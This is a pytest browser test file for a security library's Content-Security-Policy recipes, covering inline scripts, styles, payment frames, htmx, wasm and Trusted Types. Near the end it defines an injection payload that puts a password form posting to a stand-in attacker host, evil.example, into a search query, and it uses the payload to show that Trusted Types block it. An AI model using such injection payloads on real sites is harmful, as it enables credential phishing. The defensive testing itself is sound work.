"""The recipes of docs/how-to, tried: without one a thing is blocked, with it it works, and the console stays empty."""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Iterable, Iterator
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from secguard import Settings
from tests.browser.elsewhere import HTMX
from tests.browser.recipes import BOTH, Recipe, Row, Web, heard, recipe, serving
from tests.helpers import skip_at_home

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

    from tests.browser.conftest import Launch

HTMX_VERSIONS = ["htmx2@npm:htmx.org@2.0.11", "htmx4@npm:htmx.org@4.0.1"]

ROWS = [
    Row("inline-scripts", "Give it the nonce", title="hello"),
    Row("inline-scripts", "Move a handler into a script", click=True, title="hello"),
    Row("inline-scripts", "Allow one handler by its hash", click=True, title="hello"),
    Row("inline-scripts", "Let a page be cached by everybody", ("web",), title="hello"),
    Row("inline-scripts", "Hand data to a script", ("web",), title="hello, 3"),

    Row("style-attributes", "Move it into a stylesheet", teal="#total"),
    Row("style-attributes", "Set it from a script", teal="#total"),
    Row("style-attributes", "Allow these, by their hashes", teal="#total"),
    Row("style-attributes", "Allow all of them, and nothing else", teal="#total"),

    Row("third-party-script", "Put the nonce on its tag", title="chat"),
    Row("third-party-script", "Allow what it loads", title="chat with a face"),
    Row("third-party-script", "Allow the scripts it loads", ("web",), title="chat with a face", element="[data-emoji]"),
    Row("third-party-script", "Allow it on one page", endpoint="support", title="chat with a face"),

    Row("payment-frame", "Name the frame, the servers and the permission", ("web",), title="card and wallets"),
    Row("payment-frame", "Under strict, take it off for the checkout", ("strict",), "/checkout",
        title="card and wallets"),
    Row("payment-frame", "Send the buyer to their page", click=True, title="checkout"),
    Row("oauth-popups", "A form", click=True, title="sign in"),

    Row("analytics", "Nonces on both, and two directives", title="visit of shop"),

    Row("htmx", "Its style, in htmx 2", click=True, element="#part b", hidden=".htmx-indicator"),
    Row("htmx", "Code in attributes, in htmx 2", click=True, title="shown"),
    Row("htmx", "Code in attributes, in htmx 4", click=True, title="shown", element="#part b"),

    Row("wasm", "On the page that needs it", endpoint="viewer", title="compiled"),
    Row("wasm", "Everywhere", ("web",), title="compiled"),
    Row("wasm", "Everywhere, in strict", ("strict",), title="compiled"),
    Row("wasm", "In a worker", title="compiled"),
    Row("wasm", "Threads", ("web",), silent=True, title="isolated"),
]  # fmt: skip

CASES = [
    pytest.param(row, profile, id=f"{row.page}: {row.heading} [{profile}]") for row in ROWS for profile in row.profiles
]
SET = [pytest.param(row, id=f"{row.page}: {row.heading}") for row in ROWS if recipe(row.page, row.heading).variables]


@pytest.fixture(scope="module")
def web(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Web]:
    with serving(tmp_path_factory.mktemp("web")) as web:
        yield web


@pytest.fixture(scope="module")
def visitor(launch: Launch, web: Web) -> Iterator[Browser]:
    """A browser for which every site under `.example` is the small web."""
    visitor = launch(f"--host-resolver-rules=MAP *.example 127.0.0.1:{web.port}")
    yield visitor
    visitor.close()


@pytest.fixture
def page(visitor: Browser) -> Iterator[Page]:
    context = visitor.new_context(ignore_https_errors=True)
    yield context.new_page()
    context.close()


@pytest.fixture(autouse=True)
def _own_folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)  # recipes write files, and read a `.env`


@pytest.fixture(autouse=True)
def _brought(request: pytest.FixtureRequest) -> None:
    if "htmx" in request.node.name:
        request.getfixturevalue("htmx")


@pytest.fixture(scope="session")
def htmx() -> None:
    """The real htmx, old and new. `npm install` has nothing to do where it has been here before."""
    npm = shutil.which("npm")
    if npm is None:
        skip_at_home("npm is missing; `apt install nodejs npm`")
    HTMX.parent.mkdir(parents=True, exist_ok=True)
    command = [npm, "install", "--silent", "--no-save", "--ignore-scripts", "--prefer-offline", *HTMX_VERSIONS]
    subprocess.run(command, cwd=HTMX.parent, check=True)


def visit(page: Page, path: str = "/", *, click: bool = False) -> None:
    page.goto(f"https://shop.example{path}")
    if click:
        page.get_by_role("button").focus()
        page.keyboard.press("Enter")  # Playwright's own click waits for a form that is never sent


def expect_to_hear(page: Page, lines: Iterable[str], complaints: list[str]) -> None:
    """Wait until the browser has said all this."""
    for _ in range(600):
        if all(heard(line, complaints) for line in lines):
            return
        page.wait_for_timeout(50)
    raise AssertionError(f"heard only {complaints}")


def settle(told: Recipe, profile: str, monkeypatch: pytest.MonkeyPatch) -> tuple[Settings, dict[str, object]]:
    """Return the settings of a recipe under a profile, and all that its code defines."""
    monkeypatch.setenv("SECGUARD_PROFILE", profile)
    names = told.names()
    return names["settings"] if told.sets else Settings(), names


@pytest.mark.parametrize(("row", "profile"), CASES)
def test_without_the_recipe_it_is_blocked(page: Page, web: Web, complaints: list[str], row: Row, profile: str) -> None:
    told = recipe(row.page, row.heading)
    web.publish(told.before, Settings(profile=profile))
    visit(page, row.path, click=row.click)
    expect_to_hear(page, () if row.silent else told.seen, complaints)
    with pytest.raises(AssertionError):
        row.look(page, patience=1)


@pytest.mark.parametrize(("row", "profile"), CASES)
def test_with_the_recipe_it_works_and_the_console_stays_empty(
    page: Page, web: Web, complaints: list[str], row: Row, profile: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    told = recipe(row.page, row.heading)
    settings, names = settle(told, profile, monkeypatch)
    web.publish(told.after, settings, names, row.endpoint)
    visit(page, row.path, click=row.click)
    row.look(page)
    page.wait_for_load_state("networkidle")
    assert [said for said in complaints if not said.startswith("303: ")] == []


@pytest.mark.parametrize("row", SET)
def test_code_and_variables_say_the_same(row: Row, monkeypatch: pytest.MonkeyPatch) -> None:
    told = recipe(row.page, row.heading)
    in_code, _ = settle(told, "web", monkeypatch)
    Path("recipe.env").write_text(told.variables)
    monkeypatch.delenv("SECGUARD_PROFILE")
    assert Settings(_env_file="recipe.env").model_dump() == in_code.model_dump()


# ------------------------------------------------------------------------- what the pages say besides, in their words


@pytest.mark.parametrize("profile", BOTH)
def test_all_style_attributes_allowed_is_still_no_style_element(
    page: Page, web: Web, complaints: list[str], profile: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    settings, _ = settle(recipe("style-attributes", "Allow all of them, and nothing else"), profile, monkeypatch)
    web.publish("<style>b { color: teal }</style><b id=total>12</b>", settings)
    visit(page)
    assert page.evaluate("getComputedStyle(document.querySelector('#total')).color") == "rgb(0, 0, 0)"
    expect_to_hear(page, ["Applying inline style violates"], complaints)


def test_embedder_policy_keeps_a_payment_frame_out_without_a_word(
    page: Page, web: Web, complaints: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    told = recipe("payment-frame", "Under strict, take it off for the checkout")
    settings, _ = settle(told, "strict", monkeypatch)
    web.publish(told.after, settings)
    visit(page, "/elsewhere")
    expect_to_hear(page, ["https://js.pay.example/card: …ERR_BLOCKED_BY_RESPONSE"], complaints)
    assert len(complaints) == 1
    assert page.title() == "-"


@pytest.mark.parametrize("profile", BOTH)
def test_a_form_answered_with_a_page_that_goes_on_may_lead_anywhere(
    page: Page, web: Web, complaints: list[str], profile: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECGUARD_PROFILE", profile)
    form, goes_on = recipe("oauth-popups", "A form"), recipe("oauth-popups", "A form, whatever the provider")
    form_elsewhere = form.before.replace('"/login"', '"/continue"')
    web.publish(
        f"{{% if request.method == 'GET' %}}{form_elsewhere}{{% else %}}{goes_on.after}{{% endif %}}", Settings()
    )
    visit(page, click=True)
    Row("", "", title="sign in").look(page)
    assert complaints == []


def test_htmx_2_lets_every_event_through_a_filter_that_it_cannot_evaluate(
    page: Page, web: Web, complaints: list[str]
) -> None:
    html = recipe("htmx", "Code in attributes, in htmx 2").after
    web.publish(html.replace('hx-get="/part"', 'hx-get="/part" hx-trigger="click[ctrlKey]"'), Settings())
    visit(page, click=True)
    page.locator("#part b").wait_for()
    expect_to_hear(page, ["Evaluating a string as JavaScript violates"], complaints)


def test_htmx_4_obeys_no_element_without_the_nonce(page: Page, web: Web, complaints: list[str]) -> None:
    html = recipe("htmx", "Code in attributes, in htmx 4").after
    injected = '<b hx-get="/part" hx-trigger="load" hx-target="#part">injected</b>'
    web.publish(html + injected, Settings())
    visit(page)
    expect_to_hear(page, ["htmx: [hx-csp] blocked <b>: no hx-nonce attribute"], complaints)
    assert page.locator("#part b").count() == 0


def test_htmx_4_obeys_the_elements_of_a_fragment_with_a_nonce_of_its_own(
    page: Page, web: Web, complaints: list[str]
) -> None:
    html = recipe("htmx", "Code in attributes, in htmx 4").after.replace("/part", "/fragment")
    nonce = "{{ request.state.csp_nonce }}"
    fragment = f'<i hx-get="/part" hx-trigger="load" hx-nonce="{nonce}"></i>'
    page_or_fragment = f"{{% if request.url.path == '/fragment' %}}{fragment}{{% else %}}{html}{{% endif %}}"
    web.publish(page_or_fragment, Settings())
    visit(page, click=True)
    page.locator("#part b").wait_for()
    assert complaints == []


# ------------------------------------------------------------------------------- Trusted Types and Integrity-Policy

INJECTED = "/?query=<form action=//evil.example><input name=password></form>"
INTO_THE_PAGE = "!!document.querySelector('#found form')"


def test_without_trusted_types_a_link_writes_into_the_page(page: Page, web: Web) -> None:
    web.publish(recipe("trusted-types", "What Trusted Types stop").after, Settings())
    visit(page, INJECTED)
    assert page.evaluate(INTO_THE_PAGE)


@pytest.mark.parametrize("profile", BOTH)
@pytest.mark.parametrize(("heading", "written"), [("Enforce", False), ("Rehearse", True)])
def test_trusted_types_refuse_plain_text_or_tell_of_it(
    page: Page,
    web: Web,
    complaints: list[str],
    profile: str,
    heading: str,
    written: bool,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    told, risky = recipe("trusted-types", heading), recipe("trusted-types", "What Trusted Types stop")
    settings, _ = settle(told, profile, monkeypatch)
    web.publish(risky.after, settings)
    visit(page, INJECTED)
    expect_to_hear(page, (told if written else risky).seen, complaints)
    assert page.evaluate(INTO_THE_PAGE) is written


@pytest.mark.parametrize("profile", BOTH)
def test_a_named_policy_may_make_markup(
    page: Page, web: Web, complaints: list[str], profile: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    told = recipe("trusted-types", "Enforce")
    settings, _ = settle(told, profile, monkeypatch)
    web.publish(told.after, settings)
    visit(page, INJECTED)
    assert page.inner_text("#found").startswith("Nothing found for <form")
    assert complaints == []


@pytest.mark.parametrize("profile", BOTH)
def test_integrity_policy_runs_what_is_checked_and_nothing_else(
    page: Page, web: Web, complaints: list[str], profile: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    told = recipe("trusted-types", "Integrity-Policy")
    settings, _ = settle(told, profile, monkeypatch)
    for html, title in ((told.before, "-"), (told.after, "hello")):
        web.publish(html, settings)
        visit(page)
        assert page.title() == title
    assert [said for said in complaints if "static/hello.js: " not in said] == []
